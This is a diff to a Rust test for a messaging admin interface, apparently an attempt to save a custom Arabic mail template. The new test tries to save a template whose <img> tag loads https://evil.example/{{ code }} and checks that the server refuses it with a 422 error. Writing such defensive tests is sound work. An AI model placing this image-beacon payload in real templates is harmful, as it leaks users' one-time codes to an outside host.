@@ -135,10 +135,11 @@ async fn messages_are_listed_and_looked_at_as_they_arrive() {
     assert!(html.contains("dir=\"rtl\"") && html.contains("123456") && html.contains("#2f4858"), "{html}");
     let sms = look(&admin, "code", "sms", "en", "Code {{ code }}").await.json;
     assert_eq!(sms["message"], json!({ "subject": "", "text": "Code 123456\n", "html": "" }));
-    // A page of the draft's own is what would be sent.
-    let page = json!({ "file": "mail/code.ar.html", "pointer": "", "value": "<p>mine: {{ code }} {{ subject }}</p>" });
-    assert_eq!(save(&admin, 1, json!([page])).await.status, 200);
-    assert_eq!(look(&admin, "code", "mail", "ar", own).await.json["message"]["html"], "<p>mine: 123456 رمزكم</p>");
+    // A page of a school's own could send the code to whoever its pictures are asked of.
+    let page = "<img src=\"https://evil.example/{{ code }}\">";
+    let page = json!({ "file": "mail/code.ar.html", "pointer": "", "value": page });
+    let refused = save(&admin, 1, json!([page])).await;
+    assert_eq!((refused.status, &refused.json["errors"][0]["code"]), (422, &json!("unknownFile")), "{}", refused.text);
 
     for (name, channel, text, path, code) in [
         ("code", "mail", "Subject: x\n\n{{ cod }}", "/text", "badTemplate"),
